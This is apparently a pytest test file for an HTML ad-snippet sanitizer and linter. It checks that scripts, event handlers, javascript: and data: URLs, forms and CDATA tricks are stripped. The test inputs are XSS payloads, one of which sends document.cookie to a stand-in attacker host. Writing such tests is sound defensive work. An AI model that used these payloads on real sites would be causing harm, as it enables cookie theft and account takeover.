import pytest

from techpulse.security.snippets import (
    SnippetService,
    lint_snippet,
    sanitize_snippet_html,
)

GTM_URL = "https://www.googletagmanager.com/gtm.js"


def test_alert_script_is_dropped_everywhere():
    result = sanitize_snippet_html("<script>alert(1)</script><p>hello</p>")
    assert result.html == "<p>hello</p>"
    assert result.scripts == []
    assert result.inline_scripts == []


@pytest.mark.parametrize("body", [
    "alert(document.cookie)",
    "new Image().src='https://evil.example/?c='+document.cookie",
    "eval(atob('YWxlcnQoMSk='))",
])
def test_unrecognised_inline_scripts_never_surface(body):
    result = sanitize_snippet_html(f"<div>x</div><script>{body}</script>")
    assert "<script" not in result.html
    assert body not in result.html
    assert all(body not in s for s in result.inline_scripts)
    assert result.scripts == []


def test_trusted_external_script_goes_out_of_band():
    result = sanitize_snippet_html(f'<script src="{GTM_URL}"></script>')
    assert result.scripts == [GTM_URL]
    assert result.html == ""
    assert "googletagmanager" not in result.html


def test_untrusted_external_script_disappears():
    result = sanitize_snippet_html('<script src="https://evil.example/x.js"></script><p>ad</p>')
    assert result.scripts == []
    assert "evil.example" not in result.html
    assert result.html == "<p>ad</p>"


def test_duplicate_trusted_urls_are_listed_once():
    raw = f'<script src="{GTM_URL}"></script><script src=" {GTM_URL} "></script>'
    assert sanitize_snippet_html(raw).scripts == [GTM_URL]


def test_safe_inline_script_is_returned_trimmed():
    raw = "<ins class=\"adsbygoogle\"></ins><script>\n  (adsbygoogle = window.adsbygoogle || []).push({});\n</script>"
    result = sanitize_snippet_html(raw)
    assert result.inline_scripts == ["(adsbygoogle = window.adsbygoogle || []).push({});"]
    assert result.html == '<ins class="adsbygoogle"></ins>'


def test_event_handlers_are_removed_but_lookalikes_stay():
    result = sanitize_snippet_html('<p onclick="steal()" format="wide">hi</p><svg onload="alert(1)"></svg>')
    assert "onclick" not in result.html
    assert "onload" not in result.html
    assert 'format="wide"' in result.html
    assert ">hi</p>" in result.html


@pytest.mark.parametrize("href", [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    " java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
])
def test_dangerous_url_schemes_are_removed(href):
    result = sanitize_snippet_html(f'<a href="{href}">x</a>')
    assert result.html == "<a>x</a>"


def test_harmless_data_urls_survive():
    result = sanitize_snippet_html('<img src="data:image/png;base64,AAAA" alt="pixel">')
    assert 'src="data:image/png;base64,AAAA"' in result.html


def test_stripped_elements_take_their_contents_with_them():
    raw = (
        "<div>keep</div>"
        '<object data="x.swf"><p>inner</p><object><embed src="y"></object></object>'
        '<form action="https://evil.example"><input name="card"></form>'
        '<embed src="z.swf">'
    )
    result = sanitize_snippet_html(raw)
    assert result.html == "<div>keep</div>"


def test_comments_and_srcdoc_are_removed():
    raw = '<!-- <script>alert(1)</script> --><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'
    result = sanitize_snippet_html(raw)
    assert "alert" not in result.html
    assert "srcdoc" not in result.html


def test_cdata_cannot_smuggle_live_markup():
    result = sanitize_snippet_html("<![CDATA[><img src=x onerror=alert(1)>]]><p>hi</p>")
    assert "onerror" not in result.html
    assert "CDATA" not in result.html
    assert "<p>hi</p>" in result.html


def test_doctype_and_processing_instructions_are_removed():
    result = sanitize_snippet_html("<!DOCTYPE html><?php echo 1 ?><p>x</p>")
    assert result.html == "<p>x</p>"


@pytest.mark.parametrize("raw", ["", "   ", "\n\n"])
def test_empty_input_gives_empty_output(raw):
    result = sanitize_snippet_html(raw)
    assert result.to_response() == {"html": "", "scripts": [], "inlineScripts": []}


def test_hostile_fragments_never_raise():
    for raw in [
        "<", "<script", "<scr<script>ipt>", "</p></p></div>", "<a href=>", "<<>>",
        "<![CDATA[", "<![CDATA[<p>]]>", "<?xml", "<!DOCTYPE",
    ]:
        sanitize_snippet_html(raw)


def test_sanitizing_twice_changes_nothing():
    raw = (
        '<div class="ad" onmouseover="x()"><p>Hi &amp; bye</p>'
        '<img src="data:image/png;base64,AAAA" alt="x">'
        f'<script src="{GTM_URL}"></script><script>alert(1)</script>'
        '<a href="javascript:void(0)" title="t">link</a></div>'
        "<form><input></form>"
    )
    once = sanitize_snippet_html(raw).html
    twice = sanitize_snippet_html(once)
    assert twice.html == once
    assert twice.scripts == []
    assert twice.inline_scripts == []


# ---- Admin lint ----

def test_lint_explains_each_removal():
    code = (
        '<script src="https://evil.example/x.js"></script>'
        "<script>alert(1)</script>"
        '<form action="/x"></form>'
        '<a href="javascript:alert(1)" onclick="x()">x</a>'
    )
    warnings = lint_snippet(code)
    assert "External script from untrusted domain 'evil.example' will be removed." in warnings
    assert (
        "Inline script does not match a known ad or analytics pattern and will be removed."
        in warnings
    )
    assert "<form> elements are not allowed and will be removed with their contents." in warnings
    assert "Attribute 'onclick' on <a> (event handler) will be removed." in warnings
    assert "Attribute 'href' on <a> (blocked URL scheme) will be removed." in warnings


def test_lint_mentions_markup_declarations():
    warnings = lint_snippet("<![CDATA[><img src=x>]]><!-- note --><p>x</p>")
    assert "Comments, CDATA sections and other markup declarations will be removed." in warnings


def test_lint_is_quiet_for_clean_ad_code():
    code = f'<script async src="{GTM_URL}"></script><ins class="adsbygoogle"></ins>'
    assert lint_snippet(code) == []


# ---- Location rendering ----

def test_service_orders_by_priority_then_id(repo):
    repo.create_snippet("low", "footer", "<p>low</p>", priority=1)
    repo.create_snippet("high", "footer", "<p>high</p>", priority=5)
    repo.create_snippet("high-later", "footer", "<p>high2</p>", priority=5)
    repo.create_snippet("off", "footer", "<p>off</p>", is_active=False, priority=9)
    repo.create_snippet("elsewhere", "header", "<p>head</p>", priority=9)

    html = SnippetService(repo).render("footer").html
    assert html.index("high</p>") < html.index("high2") < html.index("low")
    assert "off" not in html
    assert "head" not in html


def test_service_with_no_snippets(repo):
    assert SnippetService(repo).render("sidebar").to_response() == {
        "html": "", "scripts": [], "inlineScripts": [],
    }
